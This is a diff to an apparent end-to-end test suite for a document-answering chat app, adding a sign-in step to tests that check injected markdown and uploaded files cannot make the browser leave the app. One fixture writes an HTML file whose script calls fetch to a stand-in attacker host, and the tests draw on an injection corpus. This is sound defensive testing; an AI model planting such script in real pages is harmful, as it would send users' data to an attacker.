@@ -20,7 +20,7 @@ from websockets.exceptions import InvalidStatus
 from websockets.sync.client import connect
 from websockets.typing import Origin
 
-from tests.e2e.conftest import launch_app, stop_apps
+from tests.e2e.conftest import launch_app, sign_in, stop_apps
 from tests.e2e.test_chat_ui import answers, open_last_step
 from tests.e2e.test_upload_ui import send
 from tests.injections import injection_corpus
@@ -114,7 +114,7 @@ def test_injected_markdown_never_makes_the_browser_leave_the_app(
     html.write_text(
         f"<html><body><p>An unrelated page.</p><script>fetch('//{ATTACKER}/s')</script>"
     )
-    page.goto(app_url)
+    page.goto(sign_in(page, app_url))
     expect(page.get_by_text("Answers are written by")).to_be_visible()
     send(page, "What does the zanzibar protocol say?", [document, html])
 
@@ -144,7 +144,7 @@ def test_injected_markdown_never_makes_the_browser_leave_the_app(
         assert served.headers["x-content-type-options"] == "nosniff"
         assert served.headers["content-type"] == "application/octet-stream"  # .html, .md
 
-    # The file name, in `/docs` and in a new visitor's welcome, is literal text.
+    # The file name, in `/docs` and in the welcome of the uploader's next chat, is literal.
     send(page, "/docs")
     expect(answers(page).last).to_contain_text(DOCUMENT_NAME)
     page.goto(app_url)
